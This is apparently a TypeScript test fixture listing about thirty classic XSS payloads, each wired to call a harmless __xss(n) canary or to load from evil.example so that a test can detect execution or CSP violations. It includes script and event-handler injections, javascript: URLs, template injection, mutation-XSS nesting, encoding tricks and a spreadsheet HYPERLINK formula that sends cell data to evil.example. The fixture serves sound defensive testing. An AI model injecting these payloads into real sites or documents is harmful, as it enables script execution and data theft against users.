// The XSS corpus: classic payloads, each of which calls __xss(n) (or alert) if it ever runs, or makes the
// browser load something from another origin (a CSP violation) if it is ever parsed as markup.
const P = (n: number) => `__xss(${n})`;

export const PAYLOADS: string[] = [
	`<script>${P(1)}</script>`,
	`<img src=x onerror=${P(2)}>`,
	`<svg onload=${P(3)}><circle r=1 /></svg>`,
	`"><script>${P(4)}</script>`,
	`'><img src=x onerror=${P(5)}>`,
	`javascript:${P(6)}//`,
	`" autofocus onfocus="${P(7)}" x="`,
	`' autofocus onfocus='${P(8)}' x='`,
	`</textarea><script>${P(9)}</script>`,
	`</title><script>${P(10)}</script>`,
	`</script><script>${P(11)}</script>`,
	`{{constructor.constructor('${P(12)}')()}}`,
	`\${${P(13)}}`,
	`{@html '<img src=x onerror=${P(14)}>'}`,
	`<iframe src="javascript:${P(15)}"></iframe>`,
	`<a href="javascript:${P(16)}">klik</a>`,
	`[klik](javascript:${P(17)}) ![x](http://evil.example/x.png)`,
	`<details open ontoggle=${P(18)}>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${P(19)}>`,
	`＜script＞${P(20)}＜/script＞ \\u003cscript\\u003e${P(20)}\\u003c/script\\u003e`,
	`<scr<script>ipt>${P(21)}</scr</script>ipt>`,
	`<object data="data:text/html,<script>parent.${P(22)}</script>"></object>`,
	`<style>@import 'http://evil.example/x.css';</style><link rel=stylesheet href=http://evil.example/y.css>`,
	`<img src="http://evil.example/p.png"><input autofocus onfocus=alert(24)>`,
	`${'A'.repeat(3000)}<img src=x onerror=${P(25)}>`,
	`\u202E<img src=x onerror=${P(26)}>\u200B`,
	`=HYPERLINK("http://evil.example?"&A1;"klik")`,
	`<form action="http://evil.example"><button formaction="javascript:${P(28)}">x</button></form>`,
	`<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:${P(29)}">`,
	`%3Cscript%3E${P(30)}%3C/script%3E &lt;script&gt;${P(30)}&lt;/script&gt;`
];
